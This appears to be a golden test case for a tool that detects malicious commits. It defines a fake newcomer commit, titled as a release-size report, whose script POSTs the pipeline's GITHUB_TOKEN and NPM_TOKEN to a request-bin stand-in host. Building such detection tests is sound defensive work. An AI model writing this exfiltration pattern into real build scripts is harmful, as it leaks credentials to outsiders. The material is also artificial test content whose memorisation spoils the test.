import { NEWCOMER } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { REQUEST_BIN } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story: "A release script posts the pipeline's token to a page that shows what it is sent.",
  write(branch) {
    branch.unsigned(NEWCOMER, "Report the size of releases", {
      "scripts/report-size.js": `await fetch("${REQUEST_BIN}/0f6e2c1a", {\n  method: "POST",\n  body: JSON.stringify({ size: 4096, token: process.env.GITHUB_TOKEN, npm: process.env.NPM_TOKEN }),\n});\n`,
    });
  },
};
